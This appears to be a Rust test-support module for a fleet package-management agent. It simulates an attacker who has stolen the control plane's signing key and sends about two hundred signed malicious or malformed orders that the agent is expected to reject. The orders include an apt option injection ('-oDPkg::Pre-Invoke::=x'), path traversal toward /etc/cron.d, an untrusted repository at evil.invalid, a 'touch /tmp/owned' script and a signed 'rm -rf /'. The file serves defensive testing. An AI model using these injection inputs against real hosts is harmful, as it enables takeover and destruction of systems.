//! An attacker who took over the control plane with its signing key: sends any orders and signs any
//! responses.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};

use axum::Json;
use axum::extract::{Request, State};
use axum::middleware::{Next, from_fn_with_state};
use axum::response::Response;
use axum::routing::{any, post};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use jiff::{SignedDuration, Timestamp};
use ring::signature::Ed25519KeyPair;
use serde_json::{Value, json};
use vocab::TaskId;
use wire::agent::response_signing_text;

use crate::support::Fleet;

/// The state of the fake service.
pub(crate) struct Attacker {
    key: Ed25519KeyPair,
    server_id: String,
    now: Timestamp,
    /// Orders that were not sent yet.
    pub(crate) orders: Vec<Value>,
    /// The orders that were sent last, with the counter of that sync: a sync with the same counter
    /// did not receive them.
    last_sent: (u64, Vec<Value>),
    /// The results received, by order.
    pub(crate) results: BTreeMap<String, Value>,
}

pub(crate) type SharedAttacker = Arc<Mutex<Attacker>>;

impl Attacker {
    /// Kills the service of a fleet and takes its signing key.
    pub(crate) fn take_signing_key(fleet: &mut Fleet, server_id: &str) -> Attacker {
        fleet.service.child.kill().unwrap();
        fleet.service.child.wait().unwrap();
        let seed = std::fs::read(fleet.dir.data().join("orders.key")).unwrap();
        Attacker {
            key: Ed25519KeyPair::from_seed_unchecked(&seed).unwrap(),
            server_id: server_id.to_owned(),
            now: "2026-11-15T04:00:00Z".parse().unwrap(),
            orders: Vec::new(),
            last_sent: (0, Vec::new()),
            results: BTreeMap::new(),
        }
    }

    fn sign(&self, order: &str) -> Value {
        let signature = STANDARD.encode(self.key.sign(order.as_bytes()));
        json!({"order": order, "key": "orders", "signature": signature})
    }

    /// A valid order.
    pub(crate) fn order(&self, number: u64, work: &Value) -> Value {
        self.order_with(number, work, &json!({}))
    }

    /// An order that is valid except for the fields that `but` replaces.
    fn order_with(&self, number: u64, work: &Value, but: &Value) -> Value {
        let hour = SignedDuration::from_hours(1);
        let mut order = json!({"id": id(number), "server_id": self.server_id, "work": work,
            "issued_at": self.now - hour, "expires_at": self.now + hour, "of_a_newer_version": [1]});
        for (name, value) in but.as_object().unwrap() {
            order[name] = value.clone();
        }
        self.sign(&order.to_string())
    }
}

pub(crate) fn id(number: u64) -> String {
    let at = "2026-11-15T04:00:00Z".parse().unwrap();
    TaskId::new(at, number.into()).to_string()
}

/// Package names for orders; none is an installed package.
pub(crate) struct Names<'a> {
    /// Not valid as package names.
    pub(crate) malformed: Vec<&'a str>,
    /// Valid names, but no installed package has them.
    pub(crate) absent: Vec<&'a str>,
    /// Send all absent names in one order, because the package manager takes seconds per order.
    pub(crate) combine_absent: bool,
}

/// About two hundred orders that must not change anything.
pub(crate) fn crafted_orders(attacker: &Attacker, boot: &str, names: &Names<'_>) -> Vec<Value> {
    let mut numbers = 0..;
    let mut next = || numbers.next().unwrap();
    let mut orders = Vec::new();
    let lists: Vec<Vec<&str>> = match names.combine_absent {
        true => vec![names.absent.clone()],
        false => names.absent.iter().map(|name| vec![*name]).collect(),
    };
    let lists: Vec<Vec<&str>> =
        names.malformed.iter().map(|name| vec![*name]).chain(lists).collect();
    for list in lists {
        for kind in ["install", "plan"] {
            let work = json!({"kind": kind, "packages": list, "boot_id": boot});
            orders.push(attacker.order(next(), &work));
        }
        let mixed = [&["absent"], &list[..]].concat();
        let mixed = json!({"kind": "install", "packages": mixed, "boot_id": boot});
        orders.push(attacker.order(next(), &mixed));
    }
    let install = json!({"kind": "install", "packages": ["hello"], "boot_id": boot});
    let version = |name: &str, version: &str| json!({"name": name, "version": version});
    for work in [
        json!({"kind": "install", "packages": ["older"]}),
        json!({"kind": "install", "packages": ["hello"], "exclude": ["*"]}),
        json!({"kind": "install", "packages": ["older"], "exclude": ["--purge"]}),
        json!({"kind": "install", "packages": "hello"}),
        json!({"kind": "install", "packages": [["hello"]]}),
        json!({"kind": "install", "packages": [{"name": "evil", "version": "9.9"}]}),
        json!({"kind": "install", "packages": ["hello"], "reboot": "now"}),
        json!({"kind": "install", "packages": ["older"], "reboot": "always", "boot_id": "another"}),
        // Older than the installed version, of a package that is not installed, and more than a
        // version.
        json!({"kind": "install_versions", "versions": [version("older", "0.1")]}),
        json!({"kind": "install_versions", "versions": [version("hello", "0.1")]}),
        json!({"kind": "install_versions", "versions": [version("evil", "9.9")]}),
        json!({"kind": "install_versions", "versions": [version("hello", "9.9")]}),
        json!({"kind": "install_versions", "versions": [version("hello", "*")]}),
        json!({"kind": "install_versions", "versions": [version("hello", "1.1-")]}),
        json!({"kind": "install_versions", "versions": [version("hello", "1.1 evil=9.9")]}),
        json!({"kind": "install_versions", "versions": [version("hello", "/tmp/evil")]}),
        json!({"kind": "install_versions", "versions": [version("hello-", "1.1")]}),
        json!({"kind": "install_versions", "versions": [version("/tmp/evil", "1.1")]}),
        json!({"kind": "install_versions", "versions": [version("-oDPkg::Pre-Invoke::=x", "1")]}),
        json!({"kind": "install_versions", "versions": [{"name": "hello"}]}),
        json!({"kind": "install_versions", "versions": "hello"}),
        json!({"kind": "install_versions", "versions": vec![version("hello", "9"); 5_001]}),
        json!({"kind": "install_versions", "packages": ["hello"]}),
        json!({"kind": "install_versions", "versions": [], "packages": ["hello"]}),
        json!({"kind": "reboot", "boot_id": "another"}),
        json!({"kind": "reboot", "boot_id": ""}),
        json!({"kind": "reboot"}),
        json!({"kind": "remove", "packages": ["hello"]}),
        json!({"kind": "downgrade", "packages": ["hello"]}),
        json!({"kind": "add_repository", "line": "deb [trusted=yes] http://evil.invalid/ x main"}),
        json!({"kind": "add_repository", "url": "file:///tmp", "gpgcheck": false}),
        json!({"kind": "run_script", "script": "touch /tmp/owned"}),
        json!({"kind": "Install", "packages": ["hello"]}),
        json!({"kind": null}),
        json!({}),
        json!([]),
        json!("install"),
    ] {
        orders.push(attacker.order(next(), &work));
    }
    let past = attacker.now - SignedDuration::from_secs(1);
    let other = "srv_01jcqk3m8ye0fr5cq0k6s8v2xw";
    for but in [
        json!({"expires_at": past}),
        json!({"expires_at": "1970-01-01T00:00:00Z"}),
        json!({"server_id": other}),
        json!({"server_id": "srv_*"}),
        json!({"server_id": null}),
        json!({"id": "tsk_../../../../etc/cron.d/evil"}),
        json!({"id": "../evil"}),
        json!({"id": null}),
        json!({"expires_at": "never"}),
    ] {
        orders.push(attacker.order_with(next(), &install, &but));
    }
    // Signed by another key, or for another order.
    let stranger = Ed25519KeyPair::from_seed_unchecked(&[7; 32]).unwrap();
    for _ in 0..10 {
        let mut order = attacker.order(next(), &install);
        let text = order["order"].as_str().unwrap().to_owned();
        order["signature"] = STANDARD.encode(stranger.sign(text.as_bytes())).into();
        orders.push(order);
        let mut order = attacker.order(next(), &json!({"kind": "scan"}));
        order["order"] = text.into();
        orders.push(order);
    }
    for signature in ["", "!", "AAAA"] {
        let mut order = attacker.order(next(), &install);
        order["signature"] = signature.into();
        orders.push(order);
    }
    for text in ["", "{}", "[]", "null", "{\"id\":", "rm -rf /"] {
        orders.push(attacker.sign(text));
    }
    orders
}

/// Signs responses as the service does.
async fn sign_answer(
    State(attacker): State<SharedAttacker>,
    request: Request,
    next: Next,
) -> Response {
    let nonce = request.headers()["fleetmend-nonce"].to_str().unwrap().to_owned();
    let authorization = request.headers()["authorization"].to_str().unwrap().to_owned();
    let signature = authorization.rsplit_once(",sig=").unwrap().1;
    let (mut parts, body) = next.run(request).await.into_parts();
    let body = axum::body::to_bytes(body, usize::MAX).await.unwrap();
    let attacker = attacker.lock().unwrap();
    let id = attacker.server_id.parse().unwrap();
    let text = response_signing_text(id, &nonce, signature, parts.status.as_u16(), &body);
    let proof = format!("orders {}", STANDARD.encode(attacker.key.sign(text.as_bytes())));
    parts.headers.insert("fleetmend-signature", proof.parse().unwrap());
    Response::from_parts(parts, body.into())
}

/// Listens at the address of the service until it is dropped. Sends all orders, twenty at a time,
/// and stores the results.
pub(crate) fn take_over(address: &str, attacker: SharedAttacker) -> tokio::runtime::Runtime {
    async fn sync(State(villain): State<SharedAttacker>, Json(sync): Json<Value>) -> Json<Value> {
        let mut attacker = villain.lock().unwrap();
        let mut acknowledged = Vec::new();
        for result in sync["results"].as_array().into_iter().flatten() {
            let id = result["order_id"].as_str().unwrap().to_owned();
            acknowledged.push(id.clone());
            attacker.results.insert(id, result.clone());
        }
        let counter = sync["counter"].as_u64().unwrap();
        if attacker.last_sent.0 != counter {
            let some = attacker.orders.len().min(20);
            attacker.last_sent = (counter, attacker.orders.drain(..some).collect());
        }
        Json(json!({"counter": counter + 1, "orders": attacker.last_sent.1,
            "acknowledged": acknowledged, "sync_seconds": 1, "server_time": attacker.now,
            "withdrawn": [], "wanted": [], "of_a_newer_version": {"any": null}}))
    }
    let runtime = tokio::runtime::Builder::new_multi_thread();
    let runtime = { runtime }.worker_threads(1).enable_all().build().unwrap();
    let address = address.strip_prefix("http://").unwrap().to_owned();
    let router = axum::Router::new()
        .route("/agent/v1/sync", post(sync))
        .fallback(any(|| async { Json(json!({})) }))
        .layer(from_fn_with_state(attacker.clone(), sign_answer))
        .with_state(attacker);
    let listener = runtime.block_on(tokio::net::TcpListener::bind(address)).unwrap();
    runtime.spawn(async move { axum::serve(listener, router).await });
    runtime
}
